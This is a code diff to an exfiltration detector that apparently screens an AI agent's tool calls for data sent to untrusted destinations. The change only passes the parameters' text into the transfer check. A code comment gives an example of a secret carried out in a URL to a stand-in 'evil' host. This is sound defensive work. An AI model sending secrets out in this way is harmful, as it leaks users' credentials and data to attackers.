@@ -104,9 +104,10 @@ class DataExfiltration(Detector):
         if not facts.is_write:
             # A "read" that carries data out in its URL (GET https://evil/?k=<secret>):
             # judged like a transfer, but only on strong evidence (the data itself).
-            if "://" in _params_text(facts.params):
+            text = _params_text(facts.params)
+            if "://" in text:
                 self._catch_up()
-                self._judge_transfer(facts, covert=True)
+                self._judge_transfer(facts, text, covert=True)
             return
         words = set(tool_words(facts.tool))
         command = _command_text(facts.params)
@@ -114,7 +115,7 @@ class DataExfiltration(Detector):
             self._encodings.append(facts.index)
         if words & _TRANSFER_WORDS or _SEND_CMD.search(command):
             self._catch_up()
-            self._judge_transfer(facts)
+            self._judge_transfer(facts, _params_text(facts.params))
 
     # -- reads ------------------------------------------------------------------------------
 
@@ -160,9 +161,9 @@ class DataExfiltration(Detector):
 
     # -- transfers --------------------------------------------------------------------------
 
-    def _judge_transfer(self, facts: StepFacts, covert: bool = False) -> None:
+    def _judge_transfer(self, facts: StepFacts, text: str, covert: bool = False) -> None:
+        """``text``: the call's parameters as one text (:func:`_params_text`)."""
         ctx = self.ctx
-        text = _params_text(facts.params)
         outside = self._untrusted(destinations(text))
         if not outside:
             return
